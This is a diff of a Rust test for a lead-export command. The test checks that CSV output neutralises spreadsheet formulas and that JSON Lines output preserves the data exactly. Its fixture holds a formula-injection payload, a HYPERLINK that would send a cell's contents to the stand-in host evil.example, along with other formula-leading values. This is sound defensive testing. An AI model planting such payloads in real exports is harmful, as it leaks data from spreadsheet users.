@@ -242,57 +242,57 @@ conformance! {
 
 // ---------------------------------------------------------------- export
 
-#[tokio::test]
-async fn the_command_line_exports_csv_with_a_header_and_jsonl_one_lead_per_line() {
-    let db = db();
-    let store = store::open(&db.url).await.unwrap();
-    let mut tricky = with_session(lead("l2", "2026-11-26T09:00:00Z", "+41@example.ch"));
-    tricky.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".to_owned();
-    tricky.company = Some("-2+3".to_owned());
-    tricky.message = Some("@SUM(1,2), \"quoted\"\r\nsecond line".to_owned());
-    let plain = lead("l1", "2026-11-25T09:00:00Z", "ada@example.ch");
-    let outside = lead("l3", "2026-11-27T09:00:00Z", "late@example.ch");
-    for l in [&plain, &tricky, &outside] {
-        store.insert_lead(l, LeadNotification::None).await.unwrap();
+conformance! {
+    async fn the_command_line_exports_csv_with_a_header_and_jsonl_one_lead_per_line(db: TestDb) {
+        let store = store::open(&db.url).await.unwrap();
+        let mut tricky = with_session(lead("l2", "2026-11-26T09:00:00Z", "+41@example.ch"));
+        tricky.name = String::from("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+        tricky.company = Some("-2+3".to_owned());
+        tricky.message = Some("@SUM(1,2), \"quoted\"\r\nsecond line".to_owned());
+        let plain = lead("l1", "2026-11-25T09:00:00Z", "ada@example.ch");
+        let outside = lead("l3", "2026-11-27T09:00:00Z", "late@example.ch");
+        for l in [&plain, &tricky, &outside] {
+            store.insert_lead(l, LeadNotification::None).await.unwrap();
+        }
+
+        let out =
+            certwise(&["leads", "export", "--from", "2026-11-25", "--to", "2026-11-26", "--database", &db.url]);
+        assert!(out.status.success(), "{}", text(&out.stderr));
+        assert!(text(&out.stderr).contains("2 lead(s) from 2026-11-25 to 2026-11-26"), "{}", text(&out.stderr));
+        let mut csv = csv::Reader::from_reader(out.stdout.as_slice());
+        assert_eq!(csv.headers().unwrap().iter().collect::<Vec<_>>(), LEAD_COLUMNS);
+        let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
+        assert_eq!(rows.len(), 2);
+        let cell = |row: &csv::StringRecord, column: &str| {
+            row[LEAD_COLUMNS.iter().position(|c| *c == column).unwrap()].to_owned()
+        };
+        assert_eq!(cell(&rows[0], "id"), "l1", "oldest first");
+        assert_eq!(cell(&rows[0], "session_id"), "", "no session: empty cells");
+        assert_eq!(cell(&rows[0], "received_at"), "2026-11-25T09:00:00.000000Z");
+        assert_eq!(cell(&rows[1], "name"), format!("'{}", tricky.name), "a formula is neutralised");
+        assert_eq!(cell(&rows[1], "email"), "'+41@example.ch");
+        assert_eq!(cell(&rows[1], "company"), "'-2+3");
+        assert_eq!(cell(&rows[1], "message"), format!("'{}", tricky.message.as_deref().unwrap()));
+        assert_eq!(cell(&rows[1], "session_starts_on"), "2027-01-18");
+        assert_eq!(cell(&rows[1], "session_location"), "Zürich");
+        assert_eq!(cell(&rows[1], "course_title"), tricky.course_title);
+
+        let out = certwise(&[
+            "leads",
+            "export",
+            "--from",
+            "2026-11-25",
+            "--to",
+            "2026-11-26",
+            "--format",
+            "jsonl",
+            "--database",
+            &db.url,
+        ]);
+        assert!(out.status.success(), "{}", text(&out.stderr));
+        let leads: Vec<Lead> = text(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+        assert_eq!(leads, [plain, tricky], "JSON Lines carry the leads exactly, without neutralising");
     }
-
-    let out =
-        certwise(&["leads", "export", "--from", "2026-11-25", "--to", "2026-11-26", "--database", &db.url]);
-    assert!(out.status.success(), "{}", text(&out.stderr));
-    assert!(text(&out.stderr).contains("2 lead(s) from 2026-11-25 to 2026-11-26"), "{}", text(&out.stderr));
-    let mut csv = csv::Reader::from_reader(out.stdout.as_slice());
-    assert_eq!(csv.headers().unwrap().iter().collect::<Vec<_>>(), LEAD_COLUMNS);
-    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
-    assert_eq!(rows.len(), 2);
-    let cell = |row: &csv::StringRecord, column: &str| {
-        row[LEAD_COLUMNS.iter().position(|c| *c == column).unwrap()].to_owned()
-    };
-    assert_eq!(cell(&rows[0], "id"), "l1", "oldest first");
-    assert_eq!(cell(&rows[0], "session_id"), "", "no session: empty cells");
-    assert_eq!(cell(&rows[0], "received_at"), "2026-11-25T09:00:00.000000Z");
-    assert_eq!(cell(&rows[1], "name"), format!("'{}", tricky.name), "a formula is neutralised");
-    assert_eq!(cell(&rows[1], "email"), "'+41@example.ch");
-    assert_eq!(cell(&rows[1], "company"), "'-2+3");
-    assert_eq!(cell(&rows[1], "message"), format!("'{}", tricky.message.as_deref().unwrap()));
-    assert_eq!(cell(&rows[1], "session_starts_on"), "2027-01-18");
-    assert_eq!(cell(&rows[1], "session_location"), "Zürich");
-    assert_eq!(cell(&rows[1], "course_title"), tricky.course_title);
-
-    let out = certwise(&[
-        "leads",
-        "export",
-        "--from",
-        "2026-11-25",
-        "--to",
-        "2026-11-26",
-        "--format",
-        "jsonl",
-        "--database",
-        &db.url,
-    ]);
-    assert!(out.status.success(), "{}", text(&out.stderr));
-    let leads: Vec<Lead> = text(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
-    assert_eq!(leads, [plain, tricky], "JSON Lines carry the leads exactly, without neutralising");
 }
 
 #[test]
